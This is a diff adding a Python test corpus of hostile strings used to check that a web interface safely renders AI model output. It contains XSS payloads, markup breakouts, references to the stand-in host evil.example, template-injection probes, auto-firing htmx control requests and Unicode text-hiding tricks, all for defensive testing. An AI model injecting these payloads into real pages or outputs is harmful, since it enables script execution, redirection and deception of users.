@@ -1,0 +1,56 @@
+"""A corpus of hostile strings: model output is attacker-controlled input.
+
+Each one, if interpreted instead of shown, would run script, break out of markup, smuggle a URL,
+or hide text. Those that try to run script set ``window.__pwned`` (or open a dialog), which the
+browser tests watch for.
+"""
+
+from __future__ import annotations
+
+HOSTILE: list[str] = [
+    "<script>window.__pwned=1</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=\"window.__pwned=1\">",
+    "<svg onload=window.__pwned=1>",
+    "<svg><script>window.__pwned=1</script></svg>",
+    "<body onload=window.__pwned=1>",
+    "<iframe src=\"javascript:window.parent.__pwned=1\"></iframe>",
+    "<a href=\"javascript:window.__pwned=1\">click me</a>",
+    "javascript:window.__pwned=1",
+    "<details open ontoggle=window.__pwned=1>",
+    "<input autofocus onfocus=window.__pwned=1>",
+    "<video><source onerror=\"window.__pwned=1\"></video>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
+    "</textarea><script>window.__pwned=1</script>",
+    "</pre><script>window.__pwned=1</script><pre>",
+    "</title><script>window.__pwned=1</script>",
+    "</script><script>window.__pwned=1</script>",
+    "<!--<script>window.__pwned=1</script>-->",
+    "<style>body{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+    "<base href=\"//evil.example/\">",
+    "<form action=//evil.example><button>go</button></form>",
+    "\"><script>window.__pwned=1</script>",
+    "'><img src=x onerror=window.__pwned=1>",
+    "{{7*7}} {% raw %}{{ config }}{% endraw %}",
+    "${7*7} #{7*7}",
+    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
+    "&amp;&quot;&#39;&#x3C;",
+    "hx-get=\"/runs\" hx-trigger=\"load\" <div hx-get=\"/api/runs\" hx-trigger=\"load\">htmx</div>",
+    "<div hx-post=\"/api/runs/1/control\" hx-vals='{\"action\":\"stop_now\"}' hx-trigger=\"load\">x</div>",
+    "abc\u202edcba\u202c rtl override",
+    "\u2066isolate\u2069 \u200f rtl mark",
+    "zero\u200bwidth\u200cjoin\u200dery\ufeffbom",
+    "NUL byte here:\x00:end",
+    "control chars \x01\x02\x07\x1b[31mred\x1b[0m",
+    "line\rreturn\u2028line sep\u2029para sep",
+    "emoji 👩‍👩‍👧‍👦 and combining e\u0301\u0301\u0301",
+    "\ufffd replacement char and an overlong \\xc0\\xaf escape",
+    "%3Cscript%3Ewindow.__pwned=1%3C%2Fscript%3E",
+    "data:text/html,<script>window.__pwned=1</script>",
+    "<think>fake reasoning</think> then </think> stray",
+    "```html\n<script>window.__pwned=1</script>\n```",
+    "[click](javascript:window.__pwned=1) ![x](x\" onerror=\"window.__pwned=1)",
+    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
+]
